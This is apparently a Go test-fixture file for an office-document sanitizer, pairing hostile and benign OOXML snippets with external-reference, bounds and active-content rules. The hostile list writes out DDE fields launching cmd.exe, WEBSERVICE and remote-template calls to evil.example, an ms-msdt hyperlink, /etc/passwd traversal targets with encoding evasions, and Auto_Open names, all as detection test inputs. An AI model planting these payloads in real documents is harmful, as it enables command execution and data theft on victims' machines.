package xmltest

import (
	"strings"

	"github.com/seed73825598/airlock/limits"
)

const (
	officeExternal limits.Rule = "ooxml-external"

	officeBounds limits.Rule = "ooxml-bounds"

	relationshipTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
)

// part returns a recipe for a document that is judged as a part of an office document.
func part(rule limits.Rule, name, document string) recipe {
	r := text(rule, name, document)
	r.option = "OOXML"
	return r
}

// relationships returns a list with one relationship.
func relationships(kind, target, mode string) string {
	if mode != "" {
		mode = ` TargetMode="` + mode + `"`
	}
	return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" ` +
		`Type="` + relationshipTypes + kind + `" Target="` + target + `"` + mode + `/></Relationships>`
}

// word returns the body of a text.
func word(body string) string {
	return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>` + body +
		`</w:p></w:body></w:document>`
}

// sheet returns a table with a formula.
func sheet(formula string) string {
	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>` +
		formula + `</f></c></row></sheetData></worksheet>`
}

// fieldOf returns a field whose instruction is spread over runs.
func fieldOf(runs ...string) string {
	const before, after = `<w:r><w:instrText xml:space="preserve">`, `</w:instrText></w:r>`
	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + before + strings.Join(runs, after+before) + after +
		`<w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

// connection returns a list with one connection.
func connection(attributes string) string {
	return `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="n" ` +
		`type="5" ` + attributes + `/></connections>`
}

// settings returns the settings of a text.
func settings(content string) string {
	return `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + content +
		`</w:settings>`
}

// sharedStrings returns a part of shared strings that says it has so many.
func sharedStrings(count string) string {
	return `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="9" uniqueCount="` + count +
		`"><si><t>x</t></si></sst>`
}

// cells returns a sheet with these rows.
func cells(rows string) string {
	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + rows +
		`</sheetData></worksheet>`
}

// name returns a book with a defined name.
func name(name string) string {
	return `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName ` +
		`name="` + name + `" hidden="1">S!$A$1</definedName></definedNames></workbook>`
}

// hostileOffice has parts of office documents that fetch or run.
func hostileOffice() []recipe {
	return []recipe{
		part(officeExternal, "template", relationships("attachedTemplate", "http://evil.example/x.dotm", "External")),
		part(officeExternal, "template-internal", relationships("attachedTemplate", "template.dotx", "")),
		part(officeExternal, "image", relationships("image", "http://evil.example/x.png", "External")),
		part(officeExternal, "ole-object", relationships("oleObject", "mhtml:http://evil.example/x!x", "External")),
		part(officeExternal, "frame", relationships("frame", "http://evil.example/", "External")),
		part(officeExternal, "sub-document", relationships("subDocument", "file:///etc/passwd", "External")),
		part(officeExternal, "strict-type",
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" `+
				`Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://evil.example/" `+
				`TargetMode="External"/></Relationships>`),
		part(officeExternal, "mode-lower-case", relationships("image", "http://evil.example/x.png", "external")),
		part(officeExternal, "mode-spaces", relationships("image", "x.png", " External ")),
		part(officeExternal, "mode-encoded", relationships("image", "http://evil.example/x.png", "E&#120;ternal")),
		part(officeExternal, "mode-unknown", relationships("image", "http://evil.example/x.png", "Other")),
		part(officeExternal, "no-mode-and-scheme", relationships("image", "http://evil.example/x.png", "")),
		part(officeExternal, "internal-and-file", relationships("image", "file:///etc/passwd", "Internal")),
		part(officeExternal, "internal-and-unc", relationships("image", `\\evil.example\x`, "Internal")),
		part(officeExternal, "internal-and-host", relationships("image", "//evil.example/x", "")),
		part(officeExternal, "internal-and-drive", relationships("image", `C:\x`, "")),
		part(officeExternal, "climbs", relationships("image", "../../../../etc/passwd", "")),
		part(officeExternal, "climbs-from-root", relationships("image", "/../etc/passwd", "")),
		part(officeExternal, "climbs-after-name", relationships("image", "a/../../../../x", "")),
		part(officeExternal, "climbs-escaped", relationships("image", "%2e%2e/%2e%2e/..%2f%2E%2E/x", "")),
		part(officeExternal, "climbs-escaped-twice", relationships("image", "%252e%252e/../../x", "")),
		part(officeExternal, "climbs-backslash", relationships("image", `..\..\..\x`, "")),
		part(officeExternal, "hyperlink-to-file", relationships("hyperlink", "file://evil.example/x", "External")),
		part(officeExternal, "hyperlink-to-protocol", relationships("hyperlink", "ms-msdt:/id PCWDiagnostic",
			"External")),
		part(officeExternal, "hyperlink-to-script", relationships("hyperlink", "java&#9;script:x", "External")),
		part(officeExternal, "hyperlink-relative", relationships("hyperlink", "x.docx", "External")),
		part(officeExternal, "html-part", relationships("aFChunk", "part.html", "")),
		part(officeExternal, "external-book", relationships("externalLinkPath", "file:///x.xlsx", "External")),
		part(officeExternal, "formula-of-a-format", `<worksheet><conditionalFormatting><cfRule><colorScale><cfvo `+
			`type="formula" val="WEBSERVICE(&quot;http://evil.example/&quot;)"/></colorScale></cfRule></conditionalFormatting>`+
			`</worksheet>`),
		part(officeExternal, "formula-of-a-pivot", `<pivotCacheDefinition><cacheFields><cacheField name="x" `+
			`formula="cmd|'/c calc'!A0"/></cacheFields></pivotCacheDefinition>`),
		part(officeExternal, "two-types",
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:x"><Relationship `+
				`Id="r" x:Type="`+relationshipTypes+`hyperlink" Type="`+relationshipTypes+`image" `+
				`Target="https://evil.example/x.png" TargetMode="External"/></Relationships>`),
		part(officeExternal, "two-targets",
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:x"><Relationship `+
				`Id="r" Type="`+relationshipTypes+`hyperlink" x:Target="https://example.org/" Target="file://evil.example/x" `+
				`TargetMode="External"/></Relationships>`),
		part(officeExternal, "two-instructions", word(`<w:fldSimple x:instr="PAGE" xmlns:x="urn:x" w:instr="DDEAUTO cmd"/>`)),
		part(officeExternal, "compatibility",
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" `+
				`xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:AlternateContent><mc:Choice `+
				`Requires="x"/></mc:AlternateContent></Relationships>`),

		part(officeExternal, "field-dde", word(fieldOf(` DDE cmd "/c calc" `))),
		part(officeExternal, "field-ddeauto", word(fieldOf(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`))),
		part(officeExternal, "field-lower-case", word(fieldOf(` ddeauto cmd`))),
		part(officeExternal, "field-split", word(fieldOf(` D`, `DE`, `AUTO cmd`))),
		part(officeExternal, "field-after-spaces", word(fieldOf("\u3000\u200b\ufeff DDE cmd"))),
		part(officeExternal, "field-after-marks", word(fieldOf(` (. * DDEAUTO cmd`))),
		part(officeExternal, "field-cdata", word(fieldOf(` D<![CDATA[DE]]>AUTO cmd`))),
		part(officeExternal, "field-comment", word(fieldOf(` DD<!-- -->E cmd`))),
		part(officeExternal, "field-simple",
			word(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \d"/>`)),
		part(officeExternal, "field-text", word(fieldOf(`INCLUDETEXT "\\\\evil.example\\x"`))),
		part(officeExternal, "field-import", word(fieldOf(`IMPORT x`))),
		part(officeExternal, "field-link", word(fieldOf(`LINK Excel.Sheet.8 "http://evil.example/x"`))),
		part(officeExternal, "field-nested",
			word(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 </w:instrText></w:r>`+fieldOf(` DDE cmd`)+
				`<w:r><w:fldChar w:fldCharType="end"/></w:r>`)),
		part(officeExternal, "field-deleted",
			word(`<w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText> DDE x</w:delInstrText><w:fldChar `+
				`w:fldCharType="end"/></w:r>`)),
		part(officeExternal, "field-without-end",
			word(`<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>`)),
		part(officeExternal, "field-without-begin", word(`<w:r><w:instrText>DDE x</w:instrText></w:r>`)),
		part(officeExternal, "field-quoted", word(fieldOf(`"DDE" x`))),
		part(officeExternal, "field-in-alternative",
			word(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice `+
				`Requires="w99">`+fieldOf("DDE x")+`</mc:Choice></mc:AlternateContent>`)),

		part(officeExternal, "formula-webservice", sheet(`WEBSERVICE("http://evil.example/"&amp;A1)`)),
		part(officeExternal, "formula-prefix", sheet(`1+_xlfn.WEBSERVICE ("x")`)),
		part(officeExternal, "formula-mixed-case", sheet(`WebService("x")`)),
		part(officeExternal, "formula-cdata", sheet(`WEB<![CDATA[SERVICE(]]>"x")`)),
		part(officeExternal, "formula-behind-string", sheet(`"a""b"&amp;WEBSERVICE("x")`)),
		part(officeExternal, "formula-dde", sheet(`cmd|'/c calc'!A0`)),
		part(officeExternal, "formula-image", sheet(`_xlfn.IMAGE("http://evil.example/x.png")`)),
		part(officeExternal, "formula-name",
			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">`+
				`WEBSERVICE("x")</definedName></definedNames></workbook>`),
		part(officeExternal, "web-query",
			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><webPr `+
				`url="http://evil.example/"/></connection></connections>`),
		part(officeExternal, "database-query",
			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><dbPr `+
				`connection="Provider=x" command="y"/></connection></connections>`),
		part(officeExternal, "text-query",
			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><textPr `+
				`sourceFile="\\evil.example\x"/></connection></connections>`),
		part(officeExternal, "dde-link",
			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" `+
				`ddeTopic="/c calc"/></externalLink>`),
		part(officeExternal, "external-book-element",
			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" `+
				`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/>`+
				`</externalLink>`),
		part(officeExternal, "attached-template-element",
			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" `+
				`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/>`+
				`</w:settings>`),
		part(officeExternal, "linked-object",
			`<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.8"/>`),
		part(officeExternal, "mail-merge",
			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString `+
				`w:val="x"/></w:mailMerge></w:settings>`),
		part(officeExternal, "vml", `<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>`),
		part(officeExternal, "vml-alternative",
			`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" `+
				`o:althref="\\evil.example\x"/>`),
		part(officeExternal, "action-file",
			`<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkfile"/>`),

		part(officeExternal, "video", word(
			`<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" `+
				`embeddedHtml="&lt;iframe src=&quot;http://evil.example/&quot;&gt;" h="1" w="1"/>`)),
		part(officeExternal, "connection-file", connection(`odcFile="\\evil.example\x.odc"`)),
		part(officeExternal, "connection-source", connection(`sourceFile="http://evil.example/x.mdb"`)),
		part(officeExternal, "task-pane", `<wetp:taskpanes `+
			`xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane `+
			`dockstate="right" visibility="1"/></wetp:taskpanes>`),
		part(officeExternal, "web-extension", `<we:webextension `+
			`xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{1}"><we:reference `+
			`id="wa1" version="1.0" store="en-US" storeType="OMEX"/></we:webextension>`),
		part(officeExternal, "web-extension-in-drawing",
			word(`<we:webextensionref xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" `+
				`xmlns:r="urn:r" r:id="rId1"/>`)),
		part(officeExternal, "web-extension-part",
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" `+
				`Type="http://schemas.microsoft.com/office/2011/relationships/webextension" Target="webextension1.xml"/>`+
				`</Relationships>`),
		part(officeExternal, "task-panes-part",
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" `+
				`Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" `+
				`Target="word/webextensions/taskpanes.xml"/></Relationships>`),
		part(officeExternal, "web-extension-type",
			`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override `+
				`PartName="/word/webextensions/webextension1.xml" ContentType="application/vnd.ms-office.webextension+xml"/>`+
				`</Types>`),
		part(officeExternal, "attached-schema", settings(`<w:attachedSchema w:val="http://evil.example/x.xsd"/>`)),
		part(officeExternal, "attached-schema-share", settings(`<w:attachedSchema w:val="\\evil.example\x.xsd"/>`)),
		part(officeExternal, "schema-library", settings(`<sl:schemaLibrary `+
			`xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" `+
			`sl:schemaLocation="http://evil.example/x.xsd"/></sl:schemaLibrary>`)),
		part(officeExternal, "schema-manifest",
			settings(`<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema `+
				`sl:uri="urn:x" sl:manifestLocation="\\evil.example\x"/></sl:schemaLibrary>`)),
		part(officeExternal, "book-on-a-share", sheet(`'\\evil.example\s\[b.xlsx]S'!A1`)),
		part(officeExternal, "book-on-the-web", sheet(`1+'https://evil.example/[b.xlsx]S'!A1`)),
		part(officeExternal, "book-in-brackets", sheet(`[http://evil.example/b.xlsx]S!A1`)),
		part(officeExternal, "book-after-quote", sheet(`'it''s'!A1+'\\evil.example\[b]S'!A1`)),
		part(officeExternal, "book-in-a-name",
			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">`+
				`'\\evil.example\[b.xlsx]S'!$A$1</definedName></definedNames></workbook>`),

		part(officeBounds, "row", cells(`<row r="1048577"/>`)),
		part(officeBounds, "row-zero", cells(`<row r="0"/>`)),
		part(officeBounds, "row-negative", cells(`<row r="-1"/>`)),
		part(officeBounds, "row-huge", cells(`<row r="18446744073709551617"/>`)),
		part(officeBounds, "row-of-cell", cells(`<row><c r="A1048577"/></row>`)),
		part(officeBounds, "column-of-cell", cells(`<row r="1"><c r="XFE1"/></row>`)),
		part(officeBounds, "long-column", cells(`<row r="1"><c r="AAAAAAAAAAAAAAAA1"/></row>`)),
		part(officeBounds, "no-cell", cells(`<row r="1"><c r="1"/></row>`)),
		part(officeBounds, "shared-strings", sharedStrings("2147483647")),
		part(officeBounds, "shared-strings-one-more", sharedStrings("16777217")),
		part(officeBounds, "shared-strings-negative", sharedStrings("-1")),
		part(officeBounds, "spans", cells(`<row r="1" spans="1:2147483647"/>`)),
		part(officeBounds, "columns", `<worksheet><cols><col min="1" max="16385"/></cols></worksheet>`),
		part(officeBounds, "dimension", `<worksheet><dimension ref="A1:XFE1048577"/></worksheet>`),
		part(officeBounds, "merged", `<worksheet><mergeCells count="1"><mergeCell ref="A1:ZZZZ1"/></mergeCells></worksheet>`),
		part(officeBounds, "shared-formula", cells(`<row><c><f t="shared" ref="A1:A2000000" si="0">1</f></c></row>`)),

		part(active, "automatic-name", name("_xlnm.Auto_Open")),
		part(active, "automatic-name-longer", name("_xlnm.Auto_Open12")),
		part(active, "automatic-name-lower-case", name("_XLNM.auto_close")),
		part(active, "automatic-name-activate", name("Auto_Activate")),
		part(active, "macros", relationships("vbaProject", "vbaProject.bin", "")),
		part(active, "control", relationships("control", "activeX/activeX1.xml", "")),
		part(active, "content-type", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
			`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`+
			`</Types>`),
		part(active, "action-program",
			`<a:hlinkHover xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/>`),
	}
}

// benignOffice comes close to breaking the profile's rules.
func benignOffice() []recipe {
	return []recipe{
		part(officeExternal, "hyperlink", relationships("hyperlink", "https://example.org/x?y#z", "External")),
		part(officeExternal, "mail", relationships("hyperlink", "mailto:a@example.org", "External")),
		part(officeExternal, "parent", relationships("customXml", "../customXml/item1.xml", "")),
		part(officeExternal, "parents", relationships("drawing", "../../xl/drawings/drawing1.xml", "Internal")),
		part(officeExternal, "from-root", relationships("styles", "/word/styles.xml", "")),
		part(officeExternal, "fields",
			word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+
				fieldOf(` = 1 + DDE `)+`<w:fldSimple w:instr=" `+
				`DATE "/><w:r><w:t>DDEAUTO cmd</w:t></w:r>`)),
		part(officeExternal, "formulas", sheet(`SUM(A1:A2)&amp;"WEBSERVICE(1) a|b"&amp;'it''s|x'!A1&amp;IMAGES(1)`)),
		part(officeExternal, "books-by-number", sheet(`'[1]Sheet 1'!A1+[2]S!B2+SUM('Jan:Dec'!A1)+T[[#All],`+
			`[price/unit]]+"\\server\x"`)),
		part(officeExternal, "schema-without-place", settings(`<w:attachedSchema w:val="ActionsPane3"/><w:attachedSchema `+
			`w:val="urn:schemas-example"/><sl:schemaLibrary `+
			`xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema `+
			`sl:uri="http://example.org/schema"/></sl:schemaLibrary>`)),
		part(officeExternal, "formulas-in-attributes", `<worksheet><cfvo type="formula" val="SUM($A$1:$A$9)*0.5"/><cfvo `+
			`type="min"/><cacheField name="a|b" formula="price *2" numFmtId="0"/></worksheet>`),
		part(officeExternal, "local-connection", connection(`refreshedVersion="6"`)),
		part(officeBounds, "most-shared-strings", sharedStrings("16777216")),
		part(officeBounds, "no-shared-strings", sharedStrings("0")),
		part(officeBounds, "last-cell", cells(`<row r="1048576" spans="1:16384"><c r="XFD1048576"><f t="shared" `+
			`ref="A1:XFD1048576" si="0">A1</f></c><c/></row>`)),
		part(officeBounds, "last-column", `<worksheet><dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" `+
			`width="9"/></cols><rowBreaks><brk id="1048575" max="16383"/></rowBreaks><mergeCells><mergeCell ref="A1:B2"/>`+
			`</mergeCells></worksheet>`),
		part(officeBounds, "other-rows", word(`<w:row w:r="0"/><c r="" xmlns=""/>`)),
		part(active, "names", name("Auto_Opening_Balance")),
		part(active, "built-in-names", name("_xlnm.Print_Area")),
		part(active, "slide-actions", `<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" `+
			`action="ppaction://hlinkshowjump?jump=nextslide"/>`),
	}
}
